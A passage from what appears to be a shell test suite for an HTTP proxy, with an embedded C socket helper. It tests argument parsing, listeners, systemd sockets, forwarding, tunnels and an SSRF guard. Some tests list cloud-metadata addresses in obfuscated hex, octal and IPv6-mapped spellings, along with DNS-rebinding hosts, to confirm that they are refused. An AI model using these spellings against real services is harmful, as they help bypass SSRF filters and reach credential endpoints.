#ifdef PR_SET_CHILD_SUBREAPER
    prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
#endif
    signal(SIGALRM, end_group), signal(SIGTERM, end_group), signal(SIGINT, end_group);
    if ((child = fork()) == 0) {
        setpgid(0, 0);
        signal(SIGTERM, SIG_DFL), signal(SIGINT, SIG_DFL);
        execvp(*command, command);
        quit("run", *command);
    }
    setpgid(child, child);
    alarm(seconds);
    for (pid_t p; (p = waitpid(-1, &status, 0)) != child; )    /* orphans come to us */
        if (p == -1 && errno != EINTR) break;
    kill(-child, SIGKILL);
    end_orphans();
    return late ? 124 : WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

int main(int argc, char **argv) {
    char *verb = argc > 1 ? argv[1] : "", **arg = argv + 2;
    signal(SIGPIPE, SIG_IGN);
    memset(page, 'x', sizeof page);
#define VERB(word, least) (!strcmp(verb, word) && argc >= 2 + (least))
    if (VERB("nap", 1)) nap(atol(arg[0]));
    else if (VERB("bound", 2)) return bounded((unsigned)atoi(arg[0]), arg + 1);
    else if (VERB("alarm", 2) || VERB("files", 2)) {
        struct rlimit r = { (rlim_t)atol(arg[0]), (rlim_t)atol(arg[0]) };
        signal(SIGPIPE, SIG_DFL);
        if (*verb == 'a') alarm((unsigned)atoi(arg[0]));
        else setrlimit(RLIMIT_NOFILE, &r);
        execvp(arg[1], arg + 1);
        quit("run", arg[1]);
    } else if (VERB("give", 2)) {                   /* give N|unix:PATH COMMAND...: as systemd, listeners from 3 on */
        int count = strncmp(arg[0], "unix:", 5) ? atoi(arg[0]) : 1;
        char number[32];
        for (int s, i = 3; i < 3 + count; i++) {
            if (strncmp(arg[0], "unix:", 5)) s = sock("127.0.0.1", "0", 1, 100);
            else s = usock(arg[0] + 5, SOCK_STREAM, 1);
            if (s != i) dup2(s, i), close(s);
        }
        snprintf(number, sizeof number, "%d", count), setenv("LISTEN_FDS", number, 1);
        snprintf(number, sizeof number, "%ld", (long)getpid()), setenv("LISTEN_PID", number, 1);
        signal(SIGPIPE, SIG_DFL);
        execvp(arg[1], arg + 1);
        quit("run", arg[1]);
    } else if (VERB("port", 0)) say("%d\n", port_of(sock(argc > 2 ? arg[0] : "127.0.0.1", "0", 1, 0)));
    else if (VERB("free", 1)) close(sock("127.0.0.1", arg[0], 1, 0));
    else if (VERB("listen", 1)) serve(arg[0], arg + 1);
    else if (VERB("count", 1)) count(atol(arg[0]));
    else if (VERB("talk", 1)) fd = reach(arg[0]), act(arg + 1);
    else if (VERB("datagrams", 1)) {                /* datagrams PATH: what comes there, a line each */
        int s = usock(arg[0], SOCK_DGRAM, 1);
        say("%s\n", arg[0]);
        for (ssize_t k; (k = read(s, in, sizeof in - 1)) >= 0; ) {
            while (k > 0 && in[k - 1] == '\n') k--;
            for (ssize_t i = 0; i < k; i++) if (in[i] == '\n') in[i] = ' ';
            say("%.*s\n", (int)k, in);
        }
    } else if (VERB("hold", 2)) {                     /* hold PORT N [TEXT]: N connections that say TEXT */
        size_t n = 0;
        char *t = text(argc > 4 ? arg[2] : "", &n);
        for (int i = 0; i < atoi(arg[1]); i++) fd = sock("127.0.0.1", arg[0], 0, 0), put(t, n);
        say("%s\n", arg[1]);
        for (;;) pause();
    } else if (VERB("full", 0)) {                   /* a listener to which no connection gets through */
        int s = sock("127.0.0.1", "0", 1, 0), port = port_of(s);
        struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr = { htonl(INADDR_LOOPBACK) } };
        for (int i = 0; i < 4; i++) {
            int k = socket(AF_INET, SOCK_STREAM, 0);
            fcntl(k, F_SETFL, O_NONBLOCK), connect(k, (struct sockaddr *)&a, sizeof a);
        }
        say("%d\n", port);
        for (;;) pause();
    } else if (VERB("deaf", 1)) {                   /* a name server that never answers */
        struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(53) };
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        inet_pton(AF_INET, arg[0], &a.sin_addr);
        if (bind(s, (struct sockaddr *)&a, sizeof a)) quit("bind", arg[0]);
        say("deaf\n");
        for (;;) pause();
    } else if (VERB("load", 4))                     /* load PORT CONNECTIONS REQUESTS TEXT [CONTENT] */
        load(arg[0], atoi(arg[1]), atol(arg[2]), arg[3], argc > 6 ? atoll(arg[4]) : 0);
    else if (VERB("greedy", 2)) greedy(arg[0], atoi(arg[1]));
    else if (VERB("quiet", 3)) quiet(arg[0], atoi(arg[1]), arg[2]);
    else errno = 0, quit("no such word", verb);
    return 0;
}
END
}

# ==== 3. tests ==============================================================================

# ---- the command line ----

test_usage_errors_name_the_flag_and_the_mend() {
	while IFS='|' read -r args message; do
		eval "set -- $args"
		(refuses "$message" "$@") || bad=1
	done <<-'END'
	8080|^proxy: 8080: no such argument; to listen there: -l 8080$
	http://app:3000|http://app:3000.*-r http://app:3000
	example.com|example.com
	-p 8080|-l 8080
	--port 8080|--port.*(-l|--listen)
	--port=8080|--port.*(-l|--listen)
	--from x|--from
	--to http://h|--to.*(-r|--reverse)
	--upstream http://h|--upstream.*(-r|--reverse)
	--target http://h|--target.*(-r|--reverse)
	--config x|--config
	--auth a:b|--auth.*(-u|--user)
	--key x|--key
	--header-up 'A: b'|--header-up.*(-H|--header)
	--list 0|--list
	--revers=200|--revers
	--nonsense|--nonsense
	-Z|-Z
	-l|-l
	-r|-r
	--listen|--listen
	--listen=|--listen
	--quiet=yes|--quiet
	-l -q|-l.*-q
	-l 0 -l|-l
	-l 99999|99999
	-l nonsense:x|nonsense:x
	-l 127.0.0.1|127\.0\.0\.1
	-l ftp://127.0.0.1:0|ftp
	-l :0/path|:0/path
	-l 0,nonsense|nonsense
	-l 1:2:3:4|1:2:3:4
	-o one -o two|-o
	-b rr -b rr|-b
	-b nonsense|nonsense
	-b rr,retries=x|retries
	-b rr,nonsense=1|nonsense
	-P one -P two|-P
	-n 1 -n 2|-n
	-n x|-n.*x
	-n -1|-n
	-t nonsense=1|nonsense
	-t connect=x|connect
	-t connect=5y|5y
	-t connect=-1|-1
	-t connect|connect
	-t connect=1,connect=2|connect
	-t ''|-t
	--max nonsense=1|nonsense
	--max body=x|body
	--max body|body
	--max header=1T|1T
	--max body=99999999999999999999|99999999999999999999
	--log-format nonsense|nonsense
	--trust nonsense|nonsense
	--trust 10.0.0.0/33|10.0.0.0/33
	-H nonsense|nonsense
	-H 'Host: x'|Host.*host=
	-H 'Content-Length: 1'|Content-Length
	-H 'Transfer-Encoding: chunked'|Transfer-Encoding
	-H 'Connection: close'|Connection
	-H 'Upgrade: x'|Upgrade
	-H 'Na me: x'|Na me
	-H ': x'|-H
	-R 'Content-Length: 1'|Content-Length
	-R 'Connection: close'|Connection
	-R nonsense|nonsense
	-a 10.0.0.1|10\.0\.0\.1.*from:.*to:
	-d 10.0.0.1|10\.0\.0\.1.*from:.*to:
	-d ::1|::1
	-d from:nonsense|nonsense
	-d from:10.0.0.0/33|10.0.0.0/33
	-d from:300.0.0.1|300.0.0.1
	-d port:0x1|port:0x1
	-d port:9-1|port:9-1
	-d port:70000|port:70000
	-d nonsense:x|nonsense:x
	-d method:|method:
	-d header:nonsense|header:nonsense
	-d not:|not:
	-d ''|-d
	-u bob|bob.*(NAME:PASSWORD|:)
	-u :x|-u
	-r ''|-r
	-r /=|/=
	-r http://|http://
	-r http://h:99999|99999
	-r http://u:p@h|auth=|u:p
	-r ftp://h|ftp
	-r http://h,nonsense=1|nonsense
	-r http://h,weight=x|weight
	-r http://h,weight=0|weight
	-r http://h,host=|host
	-r 'h/a?b=http://x'|h/a
	-b rr|-b.*-r
	-D -v|-D
	-q -o file|-q
	-q --log-format combined|-q
	-f -q -q|-q
	--mitm|--mitm
	-t wait=1|wait
	-r http://h,max=0|max
	-r http://h,max=1,max=2|max
	-r 200,max=1|options
	-b fastest|fastest.*hash:uri
	-b hash -r 1|hash
	-b hash:header -r 1|NAME
	-b hash:ip=x -r 1|value
	-b least,retries=11 -r 1|retries
	-b least,retries=-1 -r 1|retries
	-b hash:cookie= -r 1|cookie
	-b hash:nonsense -r 1|hash:uri
	-r 1,max=1048577|max
	-r 1,max=x|max
	-b rr|-r
	--health health -r 1|--health
	--health tcp,status=200 -r 1|status
	--health /,fall=0 -r 1|fall
	--health /,interval=1ms -r 1|interval
	--health /,status=99 -r 1|status
	--health /,often=1 -r 1|often
	--health / -r 200|server
	--health /,rise=0 -r 1|rise
	--health /,status=600 -r 1|status
	--health /,status=300-200 -r 1|status
	--health / --health / -r 1|twice
	--health /|--health
	--rate 0|--rate
	--rate 5/d|--rate
	--rate 5,burst=0|burst
	--rate 5,often=2|burst
	--rate 1000001|--rate
	--rate 5,burst=1000001|burst
	--rate 5 --rate 6|twice
	--mirror 1,weight=2|weight
	--mirror 1,backup|backup
	--mirror 1,max=2|max
	--mirror 1,each|each
	--mirror file:x|--mirror
	--mirror 1 --mirror 2|twice
	-A 1.2.3|-A
	-A 0,proxy|options
	-A 0 -A 0|twice
	--report-only --rate x|--rate
	END
	[ -z "${bad-}" ] || exit 1
}

test_usage_errors_of_workers_listeners_targets_and_parents_name_the_flag_too() {
	echo a:b >login
	while IFS='|' read -r args message; do
		eval "set -- $args"
		(refuses "$message" "$@") || bad=1
	done <<-'END'
	-w 0|-w
	-w 65|65
	-w x|-w.*x
	-w -1|-w
	-w ''|-w
	-w 1.5|1\.5
	-w auto,2|auto,2
	-w AUTO|AUTO
	-w 1 -w 2|-w
	--workers|--workers
	-l 0,proxy,proxy|proxy
	-l 0,proxy=1|proxy
	-l 0,Proxy|Proxy
	-l 0,proxy,nonsense|nonsense
	-l :0,proxy -r 200|--trust
	-l 0.0.0.0:0,proxy -r 200|--trust
	-l 0 -l :0,proxy -r 200|:0,proxy.*--trust
	-l unix:x,nonsense|nonsense
	-l fd:3,nonsense|nonsense
	-r http://h,proxy,proxy|proxy
	-r http://h,proxy=2|proxy
	-r unix:x,proxy=2|proxy
	-r http://h,each,each|each
	-r http://h,each=1|each
	-r http://127.0.0.1,each|each
	-r 'http://[::1],each'|each
	-r 8080,each|each
	-r :8080,each|each
	-r unix:x,each|each
	-r http://h,auth=a:b|@
	-r http://h,auth=@login,auth=@login|auth
	-r http://h,auth|auth
	-r http://h,auth=@login -H 'authorization: x'|[Aa]uthorization
	-r http://h,auth=@login -H 'Authorization:'|Authorization
	-t wait=1|wait
	-f -t wait=1|wait
	-r http://h -t wait=x|wait
	-r http://h -t wait|wait
	-r http://h -t wait=1,wait=2|wait
	-r http://h -t wait=-1|wait
	-x|-x
	-x ''|-x
	-x nonsense|http://
	-x proxy.example:3128|http://
	-x ftp://h|ftp
	-x socks4://h|socks4
	-x http://|http://
	-x http://h:99999|99999
	-x http://h:0|h:0
	-x http://h:x|after http:// comes HOST or HOST:PORT
	-x http://h/path|h/path
	-x 'http://h?q'|h\?q
	-x http://u:p@|-x
	-x http://h -x http://i|-x
	-x http://h -x direct|-x
	-x a.example=http://h -x a.example=http://i|a\.example
	-x a.example=http://h -x A.Example=direct|[aA]\.[eE]xample
	-x 10.0.0.0/33=http://h|10\.0\.0\.0/33
	-x 10.0.0.0/8=http://h -x 10.0.0.0/8=direct|10\.0\.0\.0/8
	-x private=direct -x private=http://h|private
	-x a.example=nonsense|nonsense
	-x a.example=|-x
	-x =http://h|-x
	-x 'a b=http://h'|a b
	-x a/b=http://h|a/b
	-r 200 -x http://h|-x.*-f
	-x http://h -r 200|-x.*-f
	-U|-U
	-U ''|-U
	-U :|-U
	-U nobody:|-U
	-U :daemon|-U
	-U nobody,|-U
	-U nobody,chroot|chroot
	-U nobody,chroot=|chroot
	-U nobody,nonsense=1|nonsense
	-U nobody,chroot=/,chroot=/|chroot
	-U nobody -U nobody|-U
	--show /x|--show.*-v
	-q --show /x|--show.*-v
	-v --show nonsense:x|nonsense:x
	-v --show 10.0.0.1|from:.*to:
	END
	[ -z "${bad-}" ] || exit 1
}

test_no_password_shows_in_a_usage_error() {
	for args in '-x bob:geheim@h=direct' '-x http:/bob:geheim@h' '-x =http://bob:geheim@h' '-x http://bob:1geheim' '-r https://bob:geheim@h' '-r h,auth=bob:geheim' '-x ftp://bob:geheim@h' '-x http://bob:geheim@h/path' '-x http://bob:geheim@h:x' '-r 200 -x http://bob:geheim@h'; do
		try $args
		is "$status" 2 "exit status of: proxy $args; it"
		hasnt "$err" geheim 'the message'
	done
}

test_a_missing_file_of_arguments_or_rules_is_told_with_the_system_s_reason() {
	for args in '-d @nothing.here' '-u @nothing.here' '-r file:nothing.here' '-r 200:@nothing.here' '@nothing.here'; do
		try $args
		is "$status" 1 "exit status of: proxy $args; it"
		like "$err" '^proxy: .*nothing\.here: No such file'
	done
}

test_flags_take_their_values_in_every_usual_form() {
	for form in '-l 0' '-l0' '--listen 0' '--listen=0'; do
		start_as $form -q -r /=200:hello
		is "$(get "$url")" hello "the answer with $form"
		stop
	done
	start_as -ql0 -r/=200:cluster
	is "$(get "$url")" cluster
	start_as -l 0 --quiet --reverse=/=200:long
	is "$(get "$url")" long
}

test_a_file_of_arguments_holds_a_flag_and_its_value_a_line() {
	cat >args <<-'END'
	# a comment

	-l 0
	--reverse /=200:two words, "quotes" and trailing = signs
	-R X-One: 1
	--response-header=X-Two: 2
	-q
	END
	start_as @args
	is "$(get -D head "$url")" 'two words, "quotes" and trailing = signs'
	is "$(header X-One)" 1
	is "$(header X-Two)" 2
}

test_files_of_arguments_do_not_nest_and_do_not_hide_doubled_flags() {
	echo '@inner' >outer
	echo '-q' >inner
	refuses '@inner' @outer
	echo '-o one' >args
	refuses '-o' @args -o two
	echo '8080' >args
	refuses '8080' @args
}

test_an_at_sign_reads_a_value_from_the_first_line_of_a_file() {
	printf '/=200:from a file\nnot this\n' >value
	start -r @value
	is "$(get "$url")" 'from a file'
	start_as -l 0 -o @@log -r /=200
	answers 200 "$url"
	wait_for test -s @log || fail "@@log did not name the file @log"
}

test_a_tilde_is_the_home_directory() {
	echo at home >page
	HOME=$PWD start -r 'file:~/page'
	is "$(get "$url")" 'at home'
}

test_the_environment_s_proxy_variables_are_not_read() {
	start -r /=200:direct
	inner=$port
	http_proxy=http://127.0.0.1:1 HTTP_PROXY=http://127.0.0.1:1 all_proxy=http://127.0.0.1:1 start -f
	is "$(get -x "$url" "http://127.0.0.1:$inner/")" direct
}

test_h_fits_a_terminal() {
	try -h
	is "$status" 0
	is "$err" ''
	lines=$(wc -l <tried.out)
	[ "$lines" -le 24 ] || fail "-h has $lines lines"
	[ "$lines" -gt 10 ] || fail "-h has only $lines lines"
	awk 'length > 80 { print "too wide: " $0; bad = 1 } END { exit bad }' tried.out || exit 1
}

test_help_is_80_columns_wide_and_names_every_flag_of_the_manual() {
	try --help
	is "$status" 0
	is "$err" ''
	awk 'length > 80 { print "too wide: " $0; bad = 1 } END { exit bad }' tried.out || exit 1
	from_tree proxy.1
	grep -Eo '^ *(-[A-Za-z], )?--[a-z-]+|^ *-[A-Za-z]( |$)' tried.out | tr -d ' ' | tr , '\n' | sort -u >in_help
	sed -n 's/^\.It Fl/Fl/p' "$tree/proxy.1" | grep -Eo 'Fl (-[a-z-]+|[A-Za-z])( |$)' |
		sed 's/^Fl /-/; s/ $//' | sort -u >in_manual
	diff in_help in_manual >difference || fail "--help (<) and proxy.1 (>) differ: $(cat difference)"
}

test_V_tells_the_version() {
	for flag in -V --version; do
		try $flag
		is "$status" 0
		like "$out" '^proxy [0-9]'
	done
}

test_help_that_nobody_can_read_fails() {
	[ -c /dev/full ] || skip "no /dev/full here"
	"$peer" alarm 5 "$PROXY" --help >/dev/full 2>tried.err
	is $? 1
}

# ---- listening ----

test_port_0_is_reported_and_answers() {
	start
	like "$url" '^http://127\.0\.0\.1:[1-9][0-9]*$'
	start -r /=200:hello
	is "$(get "$url")" hello
}

test_each_listener_has_its_url_line_in_the_order_given() {
	start_as -q -r /=200:hello -l 0 -l :0 -l 127.0.0.1:0 -l http://127.0.0.1:0 -l localhost:0 -l 0.0.0.0:0
	is "$(wc -l <"out.$n" | tr -d ' ')" 6 "number of URL lines"
	for u in $urls; do
		like "$u" '^http://[^/]*:[1-9][0-9]*$'
		is "$(get "$u")" hello "answer of $u"
	done
}

test_the_order_of_url_lines_is_that_of_the_flags() {
	first=$("$peer" port) second=$("$peer" port)
	start_as -q -r /=200 -l "$second" -l "$first"
	is "$urls" "http://127.0.0.1:$second
http://127.0.0.1:$first"
}

test_ipv6_is_listened_on_and_reported_in_brackets() {
	have_ipv6
	start_as -q -l '[::1]:0' -r /=200:six
	like "$url" '^http://\[::1\]:[1-9][0-9]*$'
	is "$(get -g "$url")" six
}

test_a_bare_colon_listens_on_both_families() {
	have_ipv6
	start_as -q -l :0 -r /=200:both
	like "$url" '^http://127\.0\.0\.1:[1-9][0-9]*$'
	is "$(get "$url")" both
	is "$(get -g "http://[::1]:$port")" both
	start_as -q -l '[::]:0' -r /=200:six
	is "$(get -g "http://[::1]:$port")" six
}

test_the_default_listener_is_8080_on_loopback() {
	"$peer" free 8080 2>/dev/null || skip "port 8080 is taken"
	start_as -q
	is "$url" http://127.0.0.1:8080
}

test_a_port_that_is_taken_is_named_and_the_status_is_1() {
	start -r /=200
	try -q -l "$port"
	is "$status" 1
	is "$out" ''
	like "$err" "^proxy: .*$port: Address (already )?in use"
}

takes_over() {  # a port from a program that goes while this one starts, with these options; 1: it ended first
	origin
	"$PROXY" -q "$@" -l "$origin" -r /=200:mine >taken 2>given_up </dev/null &
	heir=$!
	helpers="$helpers $heir"
	"$peer" nap 20
	kill -KILL "$helper"
	wait "$helper" 2>/dev/null
	spoke() { [ -s taken ] || [ -s given_up ]; }
	wait_for spoke || fail 'it says nothing'
	[ -s taken ] || return 1
	is "$(get "http://127.0.0.1:$origin/")" mine
	kill "$heir"
	wait "$heir" || fail "it ended with status $?"
}

test_a_port_that_is_given_up_at_once_is_taken() {
	for w in 1 2; do
		for i in 1 2 3 4 5 6 7 8 9 10; do       # on a busy machine 200 ms may pass between two lines
			takes_over -w "$w" && continue 2
		done
		fail "never with -w $w: $(cat given_up)"
	done
}

test_a_privileged_or_foreign_address_cannot_be_listened_on() {
	try -q -l 192.0.2.1:0 -r /=200
	is "$status" 1
	like "$err" "^proxy: .*192\.0\.2\.1"
}

test_two_listeners_on_the_same_port_are_refused() {
	free=$("$peer" port)
	try -q -l "$free" -l "$free" -r /=200
	case $status in 1 | 2) ;; *) fail "status is $status" ;; esac
	like "$err" "$free"
}

test_a_unix_socket_is_listened_on_and_reported_as_given() {
	for path in front "$PWD/absolute"; do
		start_as -q -l "unix:$path" -r /=200:hello
		is "$url" "unix:$path" 'the line on stdout'
		is "$(get --unix-socket "$path" http://h/ http://h/)" hellohello
		stop
		[ ! -e "$path" ] || fail 'the socket stays behind'
	done
}

test_a_unix_socket_nobody_serves_is_replaced_and_nothing_else() {
	start_as -q -l unix:front -r /=200:one
	kill -KILL "$pid"
	wait "$pid"
	pids=${pids% "$pid"}
	[ -S front ] || fail 'no socket is left to try this with'
	start_as -q -l unix:front -r /=200:two
	try -q -l unix:front -r /=200:three
	is "$status" 1
	is "$out" ''
	like "$err" '^proxy: .*unix:front: Address (already )?in use'
	is "$(get --unix-socket front http://h/)" two
	echo precious >file
	try -q -l unix:file -r /=200
	is "$status" 1
	like "$err" '^proxy: .*unix:file'
	is "$(cat file)" precious
	try -q -l unix:/nonexistent/front -r /=200
	is "$status" 1
	like "$err" '/nonexistent/front: No such file'
	long=$(head -c 200 /dev/zero | tr '\0' x)
	try -q -l "unix:$long" -r /=200
	case $status in 1 | 2) ;; *) fail "status is $status with a path that is too long" ;; esac
	has "$err" "$long"
}

test_a_client_at_a_unix_socket_is_of_this_machine() {
	start -r /=200:local
	inner=$port
	start_as -l unix:front -o log --log-format combined
	is "$(get --unix-socket front --request-target "http://127.0.0.1:$inner/" http://127.0.0.1/)" local
	wait_for lines_in 1 log || fail 'nothing is logged'
	like "$(cat log)" '^[^ ]+ - - \[[^]]*\] "GET http://127'
}

test_trust_unix_believes_who_comes_by_a_unix_socket() {
	start -r /=echo
	inner=$port
	start_as -q -l unix:plain -r ":$inner"
	is "$(code --unix-socket plain -H 'X-Forwarded-For: 192.0.2.7' http://h/)" 200
	hasnt "$(field X-Forwarded-For)" 192.0.2.7
	start_as -q -l unix:trusting -l 0 -r ":$inner" --trust unix -d from:192.0.2.66
	is "$(code --unix-socket trusting -H 'X-Forwarded-For: 192.0.2.7' http://h/)" 200
	like "$(field X-Forwarded-For)" '^192\.0\.2\.7'
	is "$(code --unix-socket trusting -H 'X-Forwarded-For: 192.0.2.66' http://h/)" 403
	url=$(sed -n 2p "out.$n")
	is "$(code -H 'X-Forwarded-For: 192.0.2.66' "$url")" 200 'what a peer on TCP says'
}

test_a_socket_that_is_open_already_is_listened_on() {
	wrap="$peer give 1 env LISTEN_FDS= LISTEN_PID=0"
	start_as -q -l fd:3 -r /=200:given
	like "$url" '^http://127\.0\.0\.1:[1-9][0-9]*$'
	is "$(get "$url")" given
	wrap="$peer give unix:given env LISTEN_FDS= LISTEN_PID=0"
	start_as -q -l fd:3 -r /=200:given
	is "$url" unix:given
	is "$(get --unix-socket given http://h/)" given
	wrap=''
	for fd in 9 0; do  # closed; no socket
		try -q -l "fd:$fd" -r /=200
		is "$status" 1
		is "$out" ''
		like "$err" "^proxy: .*fd:$fd"
	done
}

test_sockets_passed_by_systemd_are_the_default() {
	wrap="$peer give 2"
	start_as -q -r /=200:activated
	wrap=''
	wait_for lines_in 2 "out.$n" || fail "these URLs for two sockets: $(cat "out.$n")"
	[ "$(sort -u "out.$n" | wc -l)" = 2 ] || fail "the same socket twice: $(cat "out.$n")"
	for u in $(cat "out.$n"); do is "$(get "$u")" activated; done
	LISTEN_FDS=1 LISTEN_PID=1 try --dry-run
	is "$status" 0
	has "$out" 'listen http://127.0.0.1:8080' 'with sockets meant for another process, the output'
}

test_systemd_starts_it_at_the_first_connection() {
	need systemd-socket-activate
	free=$("$peer" port)
	systemd-socket-activate -l "127.0.0.1:$free" "$PROXY" -q -n 2 -r /=200:activated >activated 2>complaint &
	activated=$!
	helpers="$helpers $activated"
	wait_for now_answers 200 "http://127.0.0.1:$free" || fail "no answer: $(cat complaint)"
	is "$(get "http://127.0.0.1:$free")" activated
	wait $activated
	is $? 0 'exit status'
}

# ---- forward ----

forward() {  # an origin that echoes, on port $inner, and a forward proxy with these options
	start -r /=echo
	inner=$port
	start "$@"
}

test_forward_passes_a_request_and_adds_only_via() {
	forward
	is "$(code -x "$url" -A agent -H 'X-Mine: 1' "http://127.0.0.1:$inner/a/path?q=1&r=%2f")" 200
	is "$(member method)" GET
	is "$(member target)" '/a/path?q=1&r=%2f'
	is "$(field Host)" "127.0.0.1:$inner"
	is "$(field X-Mine)" 1
	is "$(field User-Agent)" agent
	like "$(field Via)" '^1\.1 proxy( |$)'
	is "$(field X-Forwarded-For)$(field Forwarded)$(field Proxy-Connection)$(field X-Forwarded-Host)" ''
	like "$(header Via)" '1\.1 proxy'
}

test_forward_passes_content_both_ways() {
	forward
	is "$(code -x "$url" -d 'the content' "http://127.0.0.1:$inner/")" 200
	is "$(member method) $(member content)" 'POST the content'
	is "$(code -x "$url" -X PUT -H 'Transfer-Encoding: chunked' -d 'in chunks' "http://127.0.0.1:$inner/")" 200
	is "$(member method) $(member content)" 'PUT in chunks'
	is "$(code -x "$url" -I "http://127.0.0.1:$inner/")" 200
}

test_forward_is_the_default_and_routes_alone_are_not_a_forward_proxy() {
	start -r /=200:route
	inner=$port
	is "$(get -x "$url" http://other.example/)" route
	is "$(connect_code -x "$url" "http://127.0.0.1:$inner/")" 405
}

test_with_f_and_r_routes_answer_what_they_name_and_the_rest_goes_forward() {
	forward -f -r /=200:route -r stub.example=200:stub
	is "$(get "$url/")" route
	is "$(get -x "$url" http://stub.example/)" stub
	is "$(code -x "$url" "http://127.0.0.1:$inner/away")" 200
	is "$(member target)" /away
}

test_connect_makes_a_tunnel() {
	forward
	is "$(code -p -x "$url" "http://127.0.0.1:$inner/through")" 200
	is "$(member target)" /through
	is "$(field Via)" ''
	head -n 1 head | grep -q '^HTTP/1\.1 200' || fail "$(head -n 1 head)"
	grep -Eqi '^(content-length|transfer-encoding):' head && sed '/^\r*$/q' head | grep -Ei '^(content-length|transfer-encoding):' && fail 'framing in the answer to CONNECT'
	:
}

test_octets_after_the_connect_head_and_half_closes_pass_through_the_tunnel() {
	origin read:early send:late rest send:after-eof
	start
	talk "$port" "send:CONNECT 127.0.0.1:$origin HTTP/1.1\r\nHost: 127.0.0.1:$origin\r\n\r\nearly" \
		'read:\r\n\r\n' read:late shut read:after-eof rest >got
	like "$(head -n 1 got)" '^HTTP/1\.1 200'
}

test_a_tunnel_carries_octets_of_every_value_unchanged() {
	origin mirror
	start
	talk "$port" "send:CONNECT 127.0.0.1:$origin HTTP/1.1\r\nHost: 127.0.0.1:$origin\r\n\r\n" 'read:\r\n\r\n' \
		'send:\0\x01\xff\x80\r\nGET / HTTP/1.1\r\n\r\n\x1b[2J' 'read:\0\x01\xff\x80\r\nGET / HTTP/1.1\r\n\r\n\x1b[2J' >/dev/null ||
		fail 'the octets did not come back'
}

test_localhost_is_reached_by_name_through_a_loopback_listener() {
	forward
	for host in localhost 127.0.0.1 a.localhost LOCALHOST; do
		is "$(code -x "$url" "http://$host:$inner/")" 200 "status of $host"
	done
	is "$(connect_code -x "$url" "http://localhost:$inner/")" 200
}

test_metadata_and_other_guarded_addresses_are_refused_in_every_spelling() {
	start
	began=$(now)
	for host in 169.254.169.254 '[fe80::1]' '[ff02::1]' '[fd00:ec2::254]' 224.0.0.1 255.255.255.255 \
		'[::ffff:169.254.169.254]' '[::ffff:a9fe:a9fe]' '[64:ff9b::a9fe:a9fe]' '[::169.254.169.254]' '[2002:a9fe:a9fe::]'; do
		is "$(code -g -x "$url" "http://$host/")" 403 "status of $host"
		is "$(connect_code -g -x "$url" "http://$host:443/")" 403 "status of CONNECT $host"
	done
	for host in 0xa9fea9fe 2852039166 169.254.43518 169.16689662 0251.0376.0251.0376 0xa9.0xfe.0xa9.0xfe; do
		printf 'GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' $host $host >request
		like "$(talk "$port" "send:$(cat request)" rest | head -n 1)" '^HTTP/1\.1 (400|403) ' "answer for $host"
	done
	[ $(($(now) - began)) -lt 10 ] || fail "refusing took $(($(now) - began)) s"
}

test_unspecified_addresses_are_refused() {
	forward
	for host in 0.0.0.0 '[::]' '[::ffff:0.0.0.0]'; do
		is "$(code -g -x "$url" "http://$host:$inner/")" 403 "status of $host"
	done
}

test_its_own_listeners_are_never_connected_to() {
	start
	for host in localhost '[::ffff:127.0.0.1]'; do  # ::1 is tried too, and refuses
		like "$(code -g -x "$url" "http://$host:$port/")" '^(508|403|502)$' "status of $host"
	done
	is "$(code -x "$url" "http://127.0.0.1:$port/")" 508
	is "$(connect_code -x "$url" "http://127.0.0.1:$port/")" 508
	start -a to:127.0.0.0/8
	is "$(code -x "$url" "http://127.0.0.1:$port/")" 508
}

test_a_request_that_comes_round_again_is_a_loop() {
	one=$("$peer" port) other=$("$peer" port)
	start_as -q -l "$one" -r "/self=http://127.0.0.1:$one" -r "http://127.0.0.1:$other"
	start_as -q -l "$other" -r "http://127.0.0.1:$one"
	is "$(code "$url/")" 508
	is "$(code "$url/self")" 508
}

test_a_name_that_resolves_to_a_guarded_address_is_refused() {
	printf '127.0.0.1 localhost\n127.0.0.1 rebind.test\n169.254.169.254 metadata.test\n' >hosts
	with_file hosts /etc/hosts
	forward
	is "$(code -x "$url" "http://rebind.test:$inner/")" 403
	is "$(code -x "$url" "http://metadata.test/")" 403
	is "$(connect_code -x "$url" "http://rebind.test:$inner/")" 403
}

test_refused_addresses_of_a_name_are_left_out_and_the_others_tried() {
	printf '169.254.169.254 mixed.test\n127.0.0.1 mixed.test\n' >hosts
	with_file hosts /etc/hosts
	forward -a to:127.0.0.0/8
	is "$(code -x "$url" "http://mixed.test:$inner/")" 200
}

test_a_rule_that_names_a_guarded_address_lifts_the_guard() {
	printf '127.0.0.1 localhost rebind.test\n' >hosts
	with_file hosts /etc/hosts
	forward -a to:127.0.0.1/32
	is "$(code -x "$url" "http://rebind.test:$inner/")" 200
	start -a all
	is "$(code -x "$url" "http://rebind.test:$inner/")" 403
	start -a rebind.test
	is "$(code -x "$url" "http://rebind.test:$inner/")" 403 "status when the rule names only the name"
}

test_a_listener_off_loopback_does_not_reach_loopback() {
	start -r /=echo
	inner=$port
	start_as -q -l :0 -a from:127.0.0.0/8 -a from:::1
	for host in 127.0.0.1 localhost '[::1]'; do
		is "$(code -g -x "$url" "http://$host:$inner/")" 403 "status of $host"
	done
	start_as -q -l :0 -a from:private,to:127.0.0.1/32
	is "$(code -x "$url" "http://127.0.0.1:$inner/")" 200
}

test_this_machine_s_own_addresses_are_guarded() {
	need hostname
	address=$(hostname -I 2>/dev/null | tr ' ' '\n' | grep -E '^[0-9.]+$' | head -n 1)
	[ -n "$address" ] || skip "no address but loopback"
	start_as -q -l "$address:0" -r /=echo
	inner=$port
	start
	is "$(code -x "$url" "http://$address:$inner/")" 403
}

test_connect_off_loopback_reaches_port_443_only() {
	start -r /=echo
	inner=$port
	start_as -q -l :0 -a from:private,to:127.0.0.1/32
	is "$(connect_code -x "$url" "http://127.0.0.1:$inner/")" 403
	start_as -q -l :0 -a "from:private,to:127.0.0.1/32,port:$inner"
	is "$(connect_code -x "$url" "http://127.0.0.1:$inner/")" 200
}

test_an_open_proxy_does_not_start() {
	for listen in :0 0.0.0.0:0 '[::]:0' 192.0.2.1:0; do
		refuses '(-u|from:|-a all)' -q -l "$listen"
	done
	refuses 'all' -l :0
